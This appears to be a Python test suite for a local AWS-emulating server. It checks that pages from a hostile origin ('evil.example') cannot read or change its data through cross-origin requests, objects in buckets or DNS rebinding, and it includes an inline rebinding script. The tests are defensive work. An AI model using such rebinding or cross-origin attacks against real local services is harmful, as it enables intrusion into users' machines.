"""Pages in a real browser: strangers reach nothing, those who are allowed work."""

import base64
import io
import json
import os
import socket
import subprocess
import time
import unittest
import zipfile

import boto3
import botocore.config

from browser.pages import Browser, Disguise, Pages
from harness import environment
from harness.client import Client
from harness.server import Server

FOLDER = os.path.dirname(os.path.abspath(__file__))
PAGE = "<!DOCTYPE html><title>page</title><body><script type=module src=/page.js></script>"
# What a page may learn: that there is something, and nothing of it.
HARMLESS = ("failed", "opaque", "loaded", "not loaded", "nothing came", "sent", "refused", "true", "error")
# Names of this machine that a page may call; which of them a browser takes for safe, it tells where a request is from.
HOSTS = ("127.0.0.1", "localhost", "api.localhost", "localhost.localstack.cloud", "host.docker.internal", "0.0.0.0")
# The server has no forms of S3; WebSocket is none of its protocols.
NOT_THERE = {"objects": {"posted"}}
LIMIT_S = 30 * environment.slowness()


def script(name, endpoint, pages=None):
    with open(os.path.join(FOLDER, name), encoding="utf-8") as file:
        text = file.read().replace("SERVER", endpoint)
    return text.replace("PAGES", f"http://evil.example:{pages.port}").replace("ZIP", package()) if pages else text


def package():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("a.py", "def b(event, context):\n    return 1\n")
    return base64.b64encode(file.getvalue()).decode()


def bundle(text):
    """An SDK's page in one file."""
    done = subprocess.run(
        [os.path.join("node_modules", ".bin", "esbuild"), "--bundle", "--format=esm", "--platform=browser"],
        cwd=FOLDER,
        input=text.encode(),
        stdout=subprocess.PIPE,
        check=True,
    )
    return done.stdout.decode()


def client(server, service):
    return boto3.client(
        service,
        endpoint_url=server.endpoint,
        region_name="us-east-1",
        aws_access_key_id="test",
        aws_secret_access_key="test",
        config=botocore.config.Config(proxies={}, s3={"addressing_style": "path"}),
    )


def furnish(server):
    client(server, "s3").create_bucket(Bucket="kept")
    client(server, "s3").put_object(Bucket="kept", Key="object", Body=b"precious")
    client(server, "s3").put_object(Bucket="kept", Key="script", Body=b"window.ran = true", ContentType="text/javascript")


def state(server):
    """All that a page could have made; nothing of what furnish() made."""
    s3 = client(server, "s3")
    return {
        "tables": {*Client(server.endpoint).call("ListTables")["TableNames"]},
        "users": {user["UserName"] for user in client(server, "iam").list_users()["Users"]},
        "buckets": {bucket["Name"] for bucket in s3.list_buckets()["Buckets"]} - {"kept"},
        "functions": {function["FunctionName"] for function in client(server, "lambda").list_functions()["Functions"]},
        "uploads": {upload["Key"] for upload in s3.list_multipart_uploads(Bucket="kept").get("Uploads", [])},
        "objects": {entry["Key"] for entry in s3.list_objects_v2(Bucket="kept").get("Contents", [])} ^ {"object", "script"},
    }


NOTHING = {"tables": set(), "users": set(), "buckets": set(), "functions": set(), "uploads": set(), "objects": set()}


def server_is_called(host):
    return host not in ("0.0.0.0", "api.localhost")  # the latter is the bucket "api"


class PagesTest(unittest.TestCase):
    maxDiff = None

    def attack(self, endpoint):
        """What the page of somebody else says."""
        with Pages({"/": PAGE}) as pages:
            pages.files["/page.js"] = script("attacks.js", endpoint, pages)
            with Browser(f"http://evil.example:{pages.port}/"):
                return pages.wait_for_report()

    def check_harmless(self, results):
        self.assertGreater(len(results), 60)
        for name, outcome in results.items():
            with self.subTest(name):
                self.assertTrue(outcome.startswith(HARMLESS), outcome)

    def test_a_page_of_somebody_else(self):
        for host in HOSTS:
            with self.subTest(host), Server("--metrics-listen", "127.0.0.1:0", in_memory=True) as server:
                furnish(server)
                results = self.attack(server.endpoint.replace("127.0.0.1", host))["results"]
                ran = "ran" if server_is_called(host) else "not loaded"
                self.assertEqual(ran, results.pop("script in an object"))  # as docs/security.md says
                self.check_harmless(results)
                self.assertEqual(NOTHING, state(server))

    def open_an_object(self, server, host, kind):
        """What a page that somebody stored in a bucket can do, opened by a link."""
        with Pages({}) as pages:
            page = script("object.html", f"http://{host}:{server.endpoint.rpartition(':')[2]}", pages)
            client(server, "s3").put_object(Bucket="kept", Key="page", Body=page.encode(), ContentType=kind)
            link = client(server, "s3").generate_presigned_url("get_object", {"Bucket": "kept", "Key": "page"})
            with Browser(link.replace("127.0.0.1", host)):
                results = pages.wait_for_report()
            client(server, "s3").delete_object(Bucket="kept", Key="page")
            return results

    def test_a_page_in_an_object(self):
        """An application keeps in buckets what its users upload; and an object has the origin of the API."""
        for host in ("127.0.0.1", "localhost", "localhost.localstack.cloud"):
            for kind in ("text/html", "application/pdf, text/html"):
                with self.subTest(host=host, kind=kind), Server(in_memory=True) as server:
                    furnish(server)
                    results = self.open_an_object(server, host, kind)
                    self.assertEqual({"failed"}, set(results.values()), results)
                    self.assertEqual(NOTHING, state(server))

    def test_a_page_in_an_object_that_is_allowed(self):
        with Server("--cors-origins", "*", in_memory=True) as server:
            furnish(server)
            results = self.open_an_object(server, "127.0.0.1", "text/html")
            self.assertEqual({"read 200"}, set(results.values()), results)
            self.assertEqual({**NOTHING, "objects": {"written"}, "tables": {"written"}}, state(server))

    def test_the_address_of_metrics(self):
        with Server("--metrics-listen", "127.0.0.1:0", in_memory=True) as server:
            with open(server.ready_path, encoding="utf-8") as ready:
                endpoint = json.load(ready)["metrics"].removesuffix("/metrics")
            self.check_harmless(self.attack(endpoint)["results"])

    def test_the_attacks_would_work_on_a_server_that_lets_them(self):
        """Else the tests above show nothing."""
        with Server(in_memory=True) as server, Disguise(server.endpoint) as disguise:
            furnish(server)
            report = self.attack(disguise.endpoint)
            tried = {kind: set(names) - NOT_THERE.get(kind, set()) for kind, names in report["made"].items()}
            tried["objects"].add("object")  # it is deleted
            deadline = time.monotonic() + LIMIT_S
            while (found := state(server)) != tried and time.monotonic() < deadline:
                time.sleep(0.1)
            self.assertEqual(tried, found)
            reads = {name: outcome for name, outcome in report["results"].items() if name.startswith(("read", "list"))}
            self.assertGreater(len(reads), 20)
            for name, outcome in reads.items():
                self.assertEqual("opaque" if name.endswith("blind") else "read 200", outcome, name)

    def test_a_name_that_becomes_this_machine(self):
        """DNS rebinding: the page's own origin is the server all of a sudden."""
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        page_script = """
          await fetch("/report", {method: "POST", body: "{}"});
          const attempt = () => fetch("/", {method: "POST", headers: {
              "X-Amz-Target": "DynamoDB_20120810.ListTables", "Content-Type": "application/x-amz-json-1.0"}, body: "{}"})
            .then(async (response) => ({status: response.status, server: response.headers.get("server"), text: await response.text()}))
            .catch(() => null);
          let result = null;
          while (!result || !(result.server || "").includes("stator")) {
            await new Promise((resolve) => setTimeout(resolve, 100));
            result = await attempt();
          }
          result.others = [];
          for (const path of ["/", "/health", "/_localstack/health", "/metrics", "/bucket/key"])
            result.others.push((await fetch(path)).status);
          await fetch("http://127.0.0.1:REPORT/report", {method: "POST", mode: "no-cors", body: JSON.stringify(result)});
        """
        with Pages({}) as reports:
            page_script = page_script.replace("REPORT", str(reports.port))
            attacker = Pages({"/": PAGE, "/page.js": page_script}, port)
            with Browser(f"http://evil.example:{port}/"):
                attacker.wait_for_report()
                attacker.close()
                with Server("--listen", f"127.0.0.1:{port}", in_memory=True):
                    result = reports.wait_for_report()
            self.assertEqual([403] * 6, [result["status"], *result["others"]], result)
            self.assertIn("--allowed-hosts", result["text"])

    def test_the_sdk_in_a_page_that_is_allowed(self):
        for host, arguments in (("localhost", []), ("app.example", ["--cors-origins", "http://app.example:PORT"])):
            with Pages({}) as pages:
                arguments = [argument.replace("PORT", str(pages.port)) for argument in arguments]
                with Server(*arguments, in_memory=True) as server:
                    pages.files.update({"/": PAGE, "/page.js": bundle(script("sdk.js", server.endpoint))})
                    with Browser(f"http://{host}:{pages.port}/"):
                        results = pages.wait_for_report()
                self.assertEqual(
                    {"length": 5000, "count": 1, "tables": ["FromThePage"], "error": "ResourceNotFoundException"}, results
                )

    def test_the_sdk_in_a_page_that_is_not(self):
        with Pages({}) as pages, Server("--cors-origins", "http://app.example", in_memory=True) as server:
            furnish(server)
            pages.files.update({"/": PAGE, "/page.js": bundle(script("sdk.js", server.endpoint))})
            with Browser(f"http://localhost:{pages.port}/"):
                self.assertIn("failure", pages.wait_for_report())
            self.assertEqual(NOTHING, state(server))


if __name__ == "__main__":
    unittest.main()
